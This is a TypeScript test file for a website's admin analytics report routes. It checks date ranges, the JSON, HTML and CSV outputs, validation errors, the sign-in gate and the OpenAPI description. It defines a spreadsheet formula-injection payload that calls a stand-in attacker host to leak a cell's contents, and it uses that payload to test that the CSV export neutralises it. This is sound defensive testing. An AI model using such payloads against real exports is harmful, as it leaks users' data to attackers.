/**
 * The report's routes (server/analytics-report/report-routes.ts) on a real port, over a real file store in
 * a temporary folder filled by the real Counter and rolled up by the store itself: the ranges, the JSON
 * the CLI prints, each table as CSV (a formula typed as a search comes out as text), the 400s, the
 * headers, the OpenAPI description, and the gate in front of every route.
 */
import { execFile } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { Validator } from '@seriousme/openapi-schema-validator';
import express from 'express';
import type { RequestHandler } from 'express';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LEAD_ACTIONS } from '../../server/analytics/counts';
import { CHANNELS } from '../../server/analytics/entry-source';
import { openFileStore } from '../../server/analytics/file-store';
import type { AnalyticsStore } from '../../server/analytics/file-store';
import { BOT_REASONS } from '../../server/analytics/not-counted';
import { report } from '../../server/analytics/report';
import { analyticsReportRoutes } from '../../server/analytics-report/report-routes';
import { TABLE_IDS } from '../../server/analytics-report/report-tables';
import { buildOpenApiDocument } from '../../server/http/openapi/openapi-document';
import { ANALYTICS_JSON_PATH } from '../../server/http/openapi/analytics-operation';
import { storeDays } from '../support/analytics-days';
import { OpenApiContract } from '../support/openapi-contract';

const NOW = Date.parse('2026-12-10T12:00:00Z');
const ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
const letThrough: RequestHandler = (_req, _res, next) => next();
let dir: string;
let store: AnalyticsStore;
let app: express.Express;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'analytics-routes-'));
  store = openFileStore(dir, { retentionMonths: 25 });
  const recent = ['2026-12-04', '2026-12-08', '2026-12-09'].map((day) => ({
    day,
    visits: [
      { key: 'g', url: '/podcast/trusts', referer: 'https://www.google.com/', leads: ['play' as const] },
      { key: 'g', url: '/contact', leads: ['contact' as const] },
      { key: 'n', url: '/?utm_source=newsletter&utm_medium=email&utm_campaign=dec-tips', leads: ['schedule' as const] },
      { key: 'n', url: '/podcast?q=x', search: { query: ATTACK, found: false } },
      { key: 'd', url: '/no-such-page', notFound: true, referer: 'https://blog.example.org/links' },
    ],
    bots: { 'user-agent': 3 },
  }));
  await storeDays(store, [
    { day: '2025-06-01', visits: [{ key: 'old', url: '/press' }] },
    { day: '2026-01-15', visits: [{ key: 'jan', url: '/press' }] },
    { day: '2026-11-20', visits: [{ key: 'nov', url: '/' }] },
    ...recent,
  ]);
  app = express().use(analyticsReportRoutes({ store, gate: letThrough, gateJson: letThrough, now: () => NOW }));
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('ranges', () => {
  it('7 days, 30 days and 12 months end today (UTC); the last 30 days when none is named; any from and to', async () => {
    const range = async (query: string) => (await request(app).get(`/admin/analytics.json?${query}`).expect(200)).body;
    expect(await range('range=7d')).toMatchObject({ from: '2026-12-04', to: '2026-12-10', visitors: 9 });
    expect(await range('range=30d')).toMatchObject({ from: '2026-11-11', to: '2026-12-10', visitors: 10 });
    expect(await range('')).toMatchObject({ from: '2026-11-11', to: '2026-12-10' });
    expect(await range('range=12m')).toMatchObject({ from: '2025-12-11', to: '2026-12-10', visitors: 11 });
    expect(await range('from=2025-01-01&to=2026-12-31')).toMatchObject({ visitors: 12 });
    const week = await range('range=7d');
    expect(week.series.map((day: { day: string }) => day.day)).toEqual([
      '2026-12-04',
      '2026-12-05',
      '2026-12-06',
      '2026-12-07',
      '2026-12-08',
      '2026-12-09',
      '2026-12-10',
    ]);
  });

  it('the JSON is what the command prints for the same store and days', { timeout: 60_000 }, async () => {
    const served = (await request(app).get('/admin/analytics.json?from=2026-11-01&to=2026-12-10').expect(200)).body;
    const { stdout } = await promisify(execFile)(
      path.resolve('node_modules/.bin/tsx'),
      ['server/cli/analytics.ts', 'report', '--from', '2026-11-01', '--to', '2026-12-10', '--json'],
      { env: { ...process.env, ANALYTICS_DIR: dir } },
    );
    expect(served).toEqual(JSON.parse(stdout));
    expect(served).toEqual(JSON.parse(JSON.stringify(await report(store, '2026-11-01', '2026-12-10'))));
  });
});

describe('the page', () => {
  it('is static HTML: a chart drawn as SVG with its table, every section, no script and no inline style, never cached or indexed', async () => {
    const res = await request(app).get('/admin/analytics?range=7d').expect(200);
    expect(res.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.headers['x-robots-tag']).toBe('noindex, nofollow');
    expect(res.text).not.toMatch(/<script|\sstyle=|<style|\son[a-z]+=/i);
    expect(res.text).toContain('<link rel="stylesheet" href="/admin/analytics.css">');
    expect(res.text.match(/<svg[^>]*role="img"/g)).toHaveLength(2);
    for (const heading of ['Top pages', 'Entry pages', 'Channels', 'Sources', 'Campaigns', 'Episodes', 'Searches that found nothing']) {
      expect(res.text).toContain(`>${heading}</h2>`);
    }
    for (const table of TABLE_IDS) expect(res.text).toContain(`/admin/analytics.csv?table=${table}&amp;from=2026-12-04&amp;to=2026-12-10`);
    // React escapes what visitors typed: the search is text on the page.
    expect(res.text).toContain('=hyperlink(&quot;https://evil.example/?leak=&quot;&amp;a1,&quot;click&quot;)');
    expect(res.text).toContain('aria-current="page"');
  });

  it('its stylesheet is a file', async () => {
    const res = await request(app).get('/admin/analytics.css').expect(200);
    expect(res.headers['content-type']).toBe('text/css; charset=utf-8');
    expect(res.text).toContain('.chart');
  });
});

describe('CSV', () => {
  it('each table downloads with every row; a formula typed as a search is neutralised, as an attacker would try it', async () => {
    const res = await request(app).get('/admin/analytics.csv?table=searches&from=2026-12-01&to=2026-12-10').expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="analytics-searches-2026-12-01-2026-12-10.csv"');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.text).toBe(`Search,Found anything,Searches\r\n"'=hyperlink(""https://evil.example/?leak=""&a1,""click"")",no,3\r\n`);
    const pages = await request(app).get('/admin/analytics.csv?table=pages&from=2026-12-01&to=2026-12-10').expect(200);
    expect(pages.text.split('\r\n')).toEqual([
      'Page,Visitors,Page views',
      '/,3,3',
      '/contact,3,3',
      '/podcast,3,3',
      '/podcast/trusts,3,3',
      '',
    ]);
    for (const table of TABLE_IDS) await request(app).get(`/admin/analytics.csv?table=${table}&range=30d`).expect(200);
  });
});

describe('a bad address is a 400 saying what to change', () => {
  const cases: Array<[string, string]> = [
    ['from=2026-02-30&to=2026-03-01', 'From must be a date as YYYY-MM-DD, such as 2026-12-01 (got "2026-02-30").'],
    ['from=2026-12-01&to=tomorrow', 'To must be a date as YYYY-MM-DD, such as 2026-12-01 (got "tomorrow").'],
    ['from=2026-12-02&to=2026-12-01', 'The from date (2026-12-02) is after the to date (2026-12-01): swap them.'],
    ['from=2026-12-01', 'Give both a from and a to date, or choose one of the ranges.'],
    ['from=&to=', 'Give both a from and a to date, or choose one of the ranges.'],
    ['from=2026-12-01&from=2026-12-02&to=2026-12-03', 'From must be a date as YYYY-MM-DD'],
    ['range=forever', 'There is no range "forever": choose 7d, 30d or 12m, or give from and to dates.'],
  ];
  it.each(cases)('?%s', async (query, message) => {
    const page = await request(app).get(`/admin/analytics?${query}`).expect(400);
    expect(page.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(page.text).toContain(message.replace(/"/g, '&quot;'));
    expect(page.text).toContain('href="/admin/analytics?range=7d"');
    const json = await request(app).get(`/admin/analytics.json?${query}`).expect(400);
    expect(json.body.error).toContain(message);
    const csv = await request(app).get(`/admin/analytics.csv?table=pages&${query}`).expect(400);
    expect(csv.text).toContain(message);
  });

  it('an unknown table, or none, names the tables there are', async () => {
    for (const query of ['table=secrets', 'table=pages&table=bots', '']) {
      const res = await request(app).get(`/admin/analytics.csv?${query}&range=7d`).expect(400);
      expect(res.text).toContain('choose one of days, pages, entry-pages');
    }
  });
});

describe('the gate', () => {
  it('is in front of every route: a refusing gate refuses each, whatever is asked', async () => {
    const refuse: RequestHandler = (_req, res) => void res.status(401).type('text/plain').send('sign in');
    const refuseJson: RequestHandler = (_req, res) => void res.status(401).json({ error: 'sign in' });
    const router = analyticsReportRoutes({ store, gate: refuse, gateJson: refuseJson, now: () => NOW });
    const gated = express().use(router);
    const routes = (router.stack as Array<{ route?: { path: string; stack: Array<{ handle: unknown }> } }>).map((layer) => layer.route!);
    expect(routes.map((route) => route.path).sort()).toEqual([
      '/admin/analytics',
      '/admin/analytics.css',
      '/admin/analytics.csv',
      '/admin/analytics.json',
    ]);
    for (const route of routes) {
      expect([refuse, refuseJson]).toContain(route.stack[0]!.handle);
      for (const query of ['', '?range=7d', '?table=pages&from=2026-12-01&to=2026-12-10', '?from=bad']) {
        const res = await request(gated).get(route.path + query);
        expect(res.status, route.path + query).toBe(401);
        expect(res.text).not.toContain('visitors');
      }
    }
    expect((await request(gated).get('/admin/analytics.json?range=7d')).body).toEqual({ error: 'sign in' });
  });
});

describe('the OpenAPI document', () => {
  const document = buildOpenApiDocument({
    siteUrl: 'https://www.example.com',
    subscribe: { bodyLimit: '10kb', rateLimit: { limit: 5, windowMs: 60_000 } },
    contact: { bodyLimit: '10kb', rateLimit: { limit: 5, windowMs: 60_000 }, topics: [{ id: 'general', label: 'General' }] },
    analytics: { actions: LEAD_ACTIONS, channels: CHANNELS, botReasons: BOT_REASONS },
  });

  it('stays valid OpenAPI 3.1 with the report described', async () => {
    expect(await new Validator().validate(document)).toEqual({ valid: true });
    expect(Object.keys(document.paths as object)).toContain(ANALYTICS_JSON_PATH);
  });

  it('says every answer the route gives, body and headers, and the check fails on one it does not', async () => {
    const contract = new OpenApiContract(document);
    const answer = async (query: string) => {
      const res = await fetchFrom(`${ANALYTICS_JSON_PATH}${query}`);
      contract.check('GET', ANALYTICS_JSON_PATH, res);
      return res;
    };
    await answer('?from=2025-01-01&to=2026-12-31');
    await answer('?range=7d');
    await answer('?from=2026-13-01&to=2026-12-01');
    const missing = contract.documented().filter((name) => name.includes(ANALYTICS_JSON_PATH) && !contract.exercised.has(name));
    expect(missing).toEqual([]);
    const res = await fetchFrom(`${ANALYTICS_JSON_PATH}?range=7d`);
    expect(() => contract.check('GET', ANALYTICS_JSON_PATH, { ...res, text: res.text.replace('"series"', '"serie"') })).toThrow(/its body/);
  });
});

/** One real request to the router on a loopback port, as the contract reads an answer. */
async function fetchFrom(target: string) {
  const server = app.listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  try {
    const { port } = server.address() as { port: number };
    const res = await fetch(`http://127.0.0.1:${port}${target}`);
    return { status: res.status, headers: res.headers, text: await res.text() };
  } finally {
    await new Promise((resolve) => server.close(resolve));
  }
}
